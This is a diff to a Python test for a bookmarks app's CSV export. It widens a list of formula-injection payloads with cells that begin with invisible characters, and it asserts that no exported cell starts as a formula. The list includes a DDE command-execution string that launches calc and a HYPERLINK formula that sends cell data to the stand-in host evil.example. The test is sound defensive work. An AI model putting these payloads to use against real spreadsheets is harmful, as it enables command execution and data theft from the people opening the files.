@@ -6,8 +6,10 @@ import io
 from target import KEY, Target
 
 FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "＝1+1", "＋1",
-            "－1", "＠SUM(1)", '=HYPERLINK("https://evil.example?"&A1,"x")', "=1;=2", "a\n=1", "=\"\"\"=1"]  # fmt: skip
+            "－1", "＠SUM(1)", '=HYPERLINK("https://evil.example?"&A1,"x")', "=1;=2", "a\n=1", "=\"\"\"=1", " =1", "\u00a0=1",
+            "\ufeff=1", "\u200b+1", "\v-1", " \t@x", "' =1"]  # fmt: skip
 STARTS = tuple("=+-@\t\r\n＝＋－＠")
+UNSEEN = " \u00a0\v\u200b\ufeff"
 
 
 def test_no_cell_is_a_formula_and_every_text_comes_back(own_target: Target):
@@ -19,7 +21,7 @@ def test_no_cell_is_a_formula_and_every_text_comes_back(own_target: Target):
     rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"), newline="")))
     cells = [cell for row in rows for cell in row]
     assert len(rows) == len(FORMULAS) + 2
-    assert [cell for cell in cells if cell.startswith(STARTS)] == []
+    assert [cell for cell in cells if cell.lstrip(UNSEEN).startswith(STARTS)] == []
     before = own_target.must("GET", "/api/v1/bookmarks?limit=100")["items"]
     report = own_target.api("POST", "/api/v1/import?format=csv", exported.encode())
     assert report.status == 200
